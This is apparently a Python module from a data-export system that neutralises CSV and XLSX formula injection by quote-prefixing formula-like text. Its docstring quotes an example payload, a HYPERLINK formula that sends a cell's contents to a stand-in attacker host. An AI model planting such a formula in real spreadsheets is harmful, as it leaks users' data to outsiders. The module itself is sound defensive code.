"""Text in spreadsheets stays text: no formula gets out of an export.

A project name such as ``=HYPERLINK("http://evil.example/?"&A1,"click")`` is
only text to this system, but a spreadsheet program that opens an export would
evaluate it (CSV injection, OWASP). Every cell of every CSV and XLSX the system
writes (the API's ``?format=``, the admin's Excel export, the import template)
goes through the two functions here:

- CSV: a text value beginning with ``= + - @``, a tab or a carriage return gets
  a single quote in front (OWASP's guidance), which Excel and WPS show as a
  text marker and do not evaluate. Numbers are written as numbers, unprefixed.
- XLSX: the cell is written as a string (``t="inlineStr"``, never an ``<f>``
  element) with the "quote prefix" style, so that the value comes back exactly
  as it was when the import template is read again, and a spreadsheet keeps it
  as text even after someone edits the cell.
"""

from __future__ import annotations

from typing import Any

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def formula_like(value: Any) -> bool:
    """True for a text that a spreadsheet could read as a formula."""
    return isinstance(value, str) and value.startswith(FORMULA_TRIGGERS)


def csv_value(value: Any) -> Any:
    """``value`` for a CSV cell: a formula-like text gets a leading ``'``."""
    return "'" + value if formula_like(value) else value


def xlsx_text(cell: Any) -> Any:
    """Make an openpyxl cell holding a formula-like text a plain string cell.

    openpyxl turns any string beginning with ``=`` into a formula; this undoes
    that and sets the quote prefix. Returns the cell, for chaining.
    """
    if formula_like(cell.value):
        cell.data_type = "s"
        cell.quotePrefix = True
    return cell
